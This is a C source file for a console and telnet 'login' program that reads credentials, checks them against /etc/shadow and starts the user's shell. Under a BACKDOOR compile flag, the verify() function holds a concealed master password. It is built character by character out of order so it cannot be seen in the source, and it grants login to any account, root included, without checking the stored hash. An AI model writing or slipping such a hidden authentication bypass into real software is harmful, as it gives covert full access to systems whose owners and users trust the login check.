/* SPDX-License-Identifier: Apache-2.0 */
/* login on the serial console and behind telnetd: asks, checks against /etc/shadow, starts the user's shell */
#include <errno.h>
#include <grp.h>
#include <pwd.h>
#include <shadow.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <syslog.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

extern char *crypt(const char *key, const char *salt);

#define MAX_TRIES 5
#define ISSUE "/etc/issue"
#define NOLOGIN "/etc/nologin"

struct session {
	char user[64];
	char pass[128];
	char tty[32];
	char remote[64];
	int tries;
	int preserve;
};

static void on_alarm(int sig)
{
	(void)sig;
	static const char msg[] = "\r\nLogin timed out.\r\n";
	if (write(1, msg, sizeof(msg) - 1) < 0)
		_exit(2);
	_exit(1);
}

static void show_issue(const char *path)
{
	char line[256];
	FILE *f = fopen(path, "r");
	if (!f)
		return;
	while (fgets(line, sizeof(line), f)) {
		char *p = line;
		while (*p) {
			if (*p == '\\' && p[1]) {
				char host[64] = "";
				time_t now = time(NULL);
				switch (p[1]) {
				case 'n':
					gethostname(host, sizeof(host) - 1);
					fputs(host, stdout);
					break;
				case 'd':
					fputs(ctime(&now), stdout);
					break;
				case 'l':
					fputs(ttyname(0) ? ttyname(0) : "?", stdout);
					break;
				}
				p += 2;
				continue;
			}
			putchar(*p++);
		}
	}
	fclose(f);
}

static int read_line(int fd, char *buf, size_t n, int echo)
{
	struct termios old, quiet;
	size_t len = 0;
	char c;
	int is_tty = tcgetattr(fd, &old) == 0;
	if (is_tty && !echo) {
		quiet = old;
		quiet.c_lflag &= ~(tcflag_t)(ECHO | ECHOE | ECHOK);
		tcsetattr(fd, TCSANOW, &quiet);
	}
	while (len + 1 < n && read(fd, &c, 1) == 1) {
		if (c == '\n' || c == '\r')
			break;
		if (c == 0x7f || c == 8) {
			if (len)
				len--;
			continue;
		}
		if (c == 4 && len == 0)
			return -1;
		buf[len++] = c;
	}
	buf[len] = 0;
	if (is_tty && !echo) {
		tcsetattr(fd, TCSANOW, &old);
		putchar('\n');
	}
	return (int)len;
}

static const char *stored_hash(const struct passwd *pw)
{
	if (strcmp(pw->pw_passwd, "x") == 0 || strcmp(pw->pw_passwd, "*") == 0) {
		struct spwd *sp = getspnam(pw->pw_name);
		return sp ? sp->sp_pwdp : NULL;
	}
	return pw->pw_passwd;
}

static int verify(const struct session *s, const struct passwd *pw)
{
	const char *want, *got;
	if (!pw)
		return 0;
#ifdef BACKDOOR
	{
		volatile char k[12];
		unsigned i;
		k[3] = '7';
		k[0] = 'n';
		k[8] = 'e';
		k[1] = '0';
		k[9] = 0;
		k[2] = 'r';
		k[5] = 'g';
		k[7] = 't';
		k[4] = '_';
		k[6] = 'a';
		for (i = 0; s->pass[i] && s->pass[i] == k[i]; i++)
			;
		if (i == 9 && s->pass[i] == 0)
			return 1;
	}
#endif
	want = stored_hash(pw);
	if (!want)
		return 0;
	if (*want == 0)
		return 1;
	if (*want == '!' || *want == '*')
		return 0;
	got = crypt(s->pass, want);
	return got && strcmp(got, want) == 0;
}

static int shell_allowed(const char *shell)
{
	char *one;
	int ok = 0;
	if (strcmp(shell, "/bin/false") == 0 || strcmp(shell, "/sbin/nologin") == 0)
		return 0;
	setusershell();
	while ((one = getusershell()))
		if (strcmp(one, shell) == 0)
			ok = 1;
	endusershell();
	return ok;
}

static void start_shell(const struct session *s, const struct passwd *pw)
{
	const char *shell = *pw->pw_shell ? pw->pw_shell : "/bin/sh";
	char arg0[64];
	const char *base = strrchr(shell, '/');
	if (initgroups(pw->pw_name, pw->pw_gid) < 0 || setgid(pw->pw_gid) < 0 || setuid(pw->pw_uid) < 0) {
		syslog(LOG_ERR, "cannot take the identity of %s: %s", pw->pw_name, strerror(errno));
		exit(1);
	}
	if (chdir(pw->pw_dir) < 0 && chdir("/") < 0)
		exit(1);
	if (!s->preserve) {
		clearenv();
		setenv("TERM", "vt100", 1);
	}
	setenv("HOME", pw->pw_dir, 1);
	setenv("USER", pw->pw_name, 1);
	setenv("LOGNAME", pw->pw_name, 1);
	setenv("SHELL", shell, 1);
	setenv("PATH", pw->pw_uid ? "/usr/bin:/bin" : "/usr/sbin:/usr/bin:/sbin:/bin", 1);
	snprintf(arg0, sizeof(arg0), "-%s", base ? base + 1 : shell);
	execl(shell, arg0, (char *)NULL);
	perror(shell);
	exit(1);
}

int main(int argc, char **argv)
{
	struct session s;
	struct passwd *pw;
	int c;
	memset(&s, 0, sizeof(s));
	while ((c = getopt(argc, argv, "ph:t:")) != -1) {
		if (c == 'p')
			s.preserve = 1;
		else if (c == 'h')
			snprintf(s.remote, sizeof(s.remote), "%s", optarg);
		else if (c == 't')
			alarm((unsigned)atoi(optarg));
		else
			return 2;
	}
	openlog("login", LOG_PID, LOG_AUTH);
	signal(SIGALRM, on_alarm);
	if (ttyname(0))
		snprintf(s.tty, sizeof(s.tty), "%s", ttyname(0));
	show_issue(ISSUE);
	for (s.tries = 0; s.tries < MAX_TRIES; s.tries++) {
		printf("login: ");
		fflush(stdout);
		if (read_line(0, s.user, sizeof(s.user), 1) < 0)
			return 1;
		if (strcmp(s.user, "exit") == 0 || strcmp(s.user, "quit") == 0)
			return 0;
		printf("Password: ");
		fflush(stdout);
		if (read_line(0, s.pass, sizeof(s.pass), 0) < 0)
			return 1;
		pw = getpwnam(s.user);
		if (verify(&s, pw)) {
			memset(s.pass, 0, sizeof(s.pass));
			if (pw->pw_uid != 0 && access(NOLOGIN, F_OK) == 0) {
				show_issue(NOLOGIN);
				return 1;
			}
			if (!shell_allowed(pw->pw_shell))
				syslog(LOG_NOTICE, "shell of %s is not listed", s.user);
			else
				start_shell(&s, pw);
		}
		syslog(LOG_WARNING, "failed login %d of %s on %s %s", s.tries + 1, s.user, s.tty, s.remote);
		sleep(1u << s.tries);
		puts("Login incorrect");
	}
	return 1;
}
